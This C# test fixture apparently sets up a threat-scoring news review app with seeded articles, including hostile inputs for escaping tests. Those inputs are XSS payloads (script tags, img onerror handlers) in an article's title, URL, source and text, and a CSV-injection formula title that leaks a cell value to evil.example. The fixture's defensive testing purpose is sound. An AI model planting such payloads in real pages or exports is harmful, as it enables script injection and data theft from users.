using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.Extensions.DependencyInjection;
using ThreatScorer.Core.Articles;
using ThreatScorer.Core.Configuration;
using ThreatScorer.Core.Scoring;
using ThreatScorer.Tests.TestSupport;
using ThreatScorer.Web;
using ThreatScorer.Worker;

namespace ThreatScorer.Tests.Web;

/// <summary>
/// A real store scored by the real models (the seed article, four fixture articles and one article whose title,
/// source, URL and text are XSS payloads), served by the review app on a free loopback port.
/// </summary>
public sealed class ReviewAppFixture : IAsyncLifetime, IDisposable
{
    public const string XssTitle = "<script>document.title='pwned'</script><img src=x onerror=\"document.body.dataset.xss='1'\"> Taliban threat";

    public const string XssUrl = "https://news.example/x?q=\"><script>alert(3)</script>";

    /// <summary>A title a spreadsheet would run as a formula (CSV injection).</summary>
    public const string FormulaTitle = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open report\")";

    private readonly TempDirectory _dir = new();
    private WebApplication? _app;

    public Uri BaseAddress { get; private set; } = null!;

    public HttpClient Client { get; private set; } = null!;

    public string DatabasePath => _dir.File("scores.db");

    public string SeedId { get; private set; } = null!;

    public string XssId { get; private set; } = null!;

    public string FormulaId { get; private set; } = null!;

    public int ScoredCount { get; private set; }

    public string ScreenshotFolder { get; } = Path.Combine(RepoPaths.Root, "tests", "ThreatScorer.Tests", "bin", "screenshots");

    public async Task InitializeAsync()
    {
        var inbox = Directory.CreateDirectory(_dir.File("inbox")).FullName;
        File.Copy(RepoPaths.SeedArticle, Path.Combine(inbox, "seed.txt"));
        foreach (var name in new[] { "03-ransomware-bank-payments", "06-coup-attempt-guinea-bissau", "08-jihadist-attack-sahel-village", "12-troops-massing-venezuela-guyana" })
        {
            File.Copy(Path.Combine(RepoPaths.Root, "tests", "ThreatScorer.Tests", "Fixtures", "articles", name + ".txt"), Path.Combine(inbox, name + ".txt"));
        }

        var xss = new
        {
            id = "xss-1",
            title = XssTitle,
            url = XssUrl,
            source = "<b>evil-source</b>",
            language = "en",
            published_at = "2026-11-20T08:00:00Z",
            text = "Taliban fighters threatened to attack the border post, officials in Tajikistan said. "
                + "<script>alert('xss')</script> The statement <img src=x onerror=alert(2)> was read out on state television. "
                + "Russia pledged support to Tajikistan against the Taliban threat.",
        };
        await File.WriteAllTextAsync(Path.Combine(inbox, "xss.json"), JsonSerializer.Serialize(xss));
        var formula = new
        {
            id = "formula-1",
            title = FormulaTitle,
            url = "https://news.example/formula",
            source = "@SUM(1+1)",
            language = "en",
            published_at = "2026-11-21T08:00:00Z",
            text = "Armed men attacked a police station in the north of Mali on Tuesday, officials said. "
                + "The army sent reinforcements to the region after the assault, and the United Nations called for calm.",
        };
        await File.WriteAllTextAsync(Path.Combine(inbox, "formula.json"), JsonSerializer.Serialize(formula));

        using (var host = ThreatScorerHost.CreateBuilder(
        [
            $"--ThreatScorer:Inbox:Folders:0={inbox}",
            $"--ThreatScorer:Store:SqlitePath={DatabasePath}",
            $"--ThreatScorer:Models:Root={RepoPaths.Models}",
        ]).Build())
        {
            await host.Services.GetRequiredService<StartupTasks>().RunAsync(CancellationToken.None);
            var summary = await host.Services.GetRequiredService<ScoringRun>()
                .ExecuteAsync(new ScoringRunSettings([inbox], ArticleLimits.Default, BatchSize: 10, MaxAttempts: 1), CancellationToken.None);
            ScoredCount = summary.Scored;
        }

        _app = ReviewWebApp.Build([$"--ThreatScorer:Store:SqlitePath={DatabasePath}", "--ThreatScorer:Web:Url=http://127.0.0.1:0"]);
        await _app.StartAsync();
        BaseAddress = ReviewWebApp.Address(_app);
        Client = new HttpClient { BaseAddress = BaseAddress };

        using var list = await Client.GetFromJsonAsync<JsonDocument>("/api/articles?size=100");
        foreach (var row in list!.RootElement.GetProperty("rows").EnumerateArray())
        {
            var title = row.GetProperty("title").GetString() ?? string.Empty;
            if (title.StartsWith("Russia vows to shield Tajikistan", StringComparison.Ordinal))
            {
                SeedId = row.GetProperty("id").GetString()!;
            }
            else if (title == XssTitle)
            {
                XssId = row.GetProperty("id").GetString()!;
            }
            else if (title == FormulaTitle)
            {
                FormulaId = row.GetProperty("id").GetString()!;
            }
        }
    }

    public async Task DisposeAsync()
    {
        Client?.Dispose();
        if (_app is not null)
        {
            await _app.StopAsync();
            await _app.DisposeAsync();
        }

        _dir.Dispose();
    }

    public void Dispose() => _dir.Dispose();
}

[CollectionDefinition(Name)]
public sealed class ReviewAppGroup : ICollectionFixture<ReviewAppFixture>
{
    public const string Name = "review app";
}
